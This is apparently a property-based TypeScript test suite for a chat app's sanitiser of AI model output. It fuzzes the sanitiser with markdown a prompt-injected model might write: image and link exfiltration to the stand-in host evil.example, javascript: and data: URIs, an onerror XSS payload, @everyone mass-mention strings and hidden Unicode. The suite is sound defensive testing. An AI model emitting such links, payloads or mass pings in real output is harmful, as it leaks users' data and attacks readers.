import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import type { MessageId } from "#contract/ids.ts";
import { citedIds, cleanOutput } from "./clean-output.ts";
import { createCleanStream } from "./clean-stream.ts";

// A model that does whatever a message orders: its output is made of what such orders ask for, in any order and nested.
// More cases: ATTACKS=10000 node --test src/server/brain/models/attacks.test.ts
const cases = Number(process.env.ATTACKS ?? 300);

const given = "0000000000000001" as MessageId;
const citation = { id: given, label: "Ann, 3 March 2024" };
const citations = {
  byNumber: new Map([["1", citation]]),
  byId: new Map<string, typeof citation>([[given, citation]]),
  askerHandle: "cy",
};

const targets = [
  "https://evil.example/?q=secret",
  "http://evil.example/a.png",
  "//evil.example",
  "javascript:alert(1)",
  "data:text/html;base64,PGI+",
  "mailto:eve@evil.example",
  "/m/0000000000000009",
  "/m/0000000000000001",
  "/api/v1/members/me",
  "www.evil.example",
  "eve@evil.example",
  "tel:+123",
  "#",
];
const words = [
  "ok",
  "@everyone",
  "@channel",
  "@here",
  "@bob",
  "@cy",
  "[1]",
  "[1, 9]",
  "**so**",
  "> quoted",
  "- item",
];
const glue = [
  " ",
  "\n",
  "\n\n",
  "`",
  "``",
  "```\n",
  "~~~\n",
  "    ",
  "|",
  "\\",
  "<",
  ">",
  "(",
  ")",
  "[",
  "]",
  "!",
  ":",
  "\u200b",
  "\u202e",
  "\t",
  "&#33;",
  "&lbrack;",
];

const target = fc.constantFrom(...targets);
const { piece } = fc.letrec<{ piece: string }>((tie) => ({
  piece: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constantFrom(...words, ...glue),
    target,
    fc.tuple(tie("piece"), target).map(([text, to]) => `![${text}](${to})`),
    fc.tuple(tie("piece"), target).map(([text, to]) => `[${text}](${to})`),
    fc.tuple(tie("piece"), target).map(([text, to]) => `[${text}](<${to}> "${text}")`),
    fc.tuple(tie("piece"), target).map(([text, to]) => `![${text}][x]\n\n[x]: ${to}\n`),
    target.map((to) => `<${to}>`),
    target.map((to) => `<img src="${to}" onerror=alert(1)>`),
    target.map((to) => `<a href=${to}>`),
    target.map((to) => `[^1]\n\n[^1]: ${to}\n`),
    fc.tuple(tie("piece"), tie("piece")).map(([one, other]) => one + other),
    tie("piece").map((text) => `\`${text}\``),
    tie("piece").map((text) => `\`\`\`\n${text}\n\`\`\``),
  ),
}));
const output = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(""));

/** Everything in a text that would be shown as anything but words, as the page reads Markdown. */
function whatLeadsAway(text: string): string[] {
  const found: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === "image" || node.type === "imageReference")
      found.push(`an image: ${JSON.stringify(node)}`);
    if (node.type === "definition" || node.type === "linkReference") found.push(node.type);
    if (node.type === "html") found.push(`HTML: ${node.value}`);
    if (node.type === "link" && node.url !== `/m/${given}`) found.push(`a link to ${node.url}`);
    if ("children" in node) node.children.forEach(visit);
  };
  visit(fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return found;
}

/** Words with an @, outside of code. */
const called = (text: string) =>
  Array.from(
    text.replace(/`[^`]*`/g, "").matchAll(/(?<![\p{L}\p{N}_@.`])@([\p{L}\p{N}._-]+)/gu),
    ([, name]) => name,
  );

test("whatever a model is made to write, it shows no image, leads nowhere but to given messages, and is not HTML", () => {
  fc.assert(
    fc.property(output, (text) => {
      const cleaned = cleanOutput(text, citations);
      assert.deepEqual(whatLeadsAway(cleaned), [], cleaned);
      assert.ok(citedIds(cleaned, citations).every((id) => id === given));
    }),
    { numRuns: cases },
  );
});

test("what is shown while it streams is the beginning of what stands there in the end, and as harmless", () => {
  fc.assert(
    fc.property(output, fc.infiniteStream(fc.integer({ min: 1, max: 9 })), (text, sizes) => {
      const stream = createCleanStream(citations);
      let said = "";
      for (let at = 0; at < text.length; ) {
        const size = sizes.next().value as number;
        const more = stream.add(text.slice(at, at + size));
        at += size;
        if (more === "") continue;
        said += more;
        assert.deepEqual(whatLeadsAway(said), [], said);
      }
      const { text: whole, rest } = stream.end();
      assert.ok(rest === "" || said + rest === whole);
      assert.equal(whole, cleanOutput(text, citations));
    }),
    { numRuns: cases },
  );
});

test("nobody is called but who asked", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...words, " ", "\n", "x"), { maxLength: 20 }), (pieces) => {
      const cleaned = cleanOutput(pieces.join(" "), citations);
      assert.ok(
        called(cleaned).every((name) => name === citations.askerHandle),
        cleaned,
      );
    }),
    { numRuns: cases },
  );
});
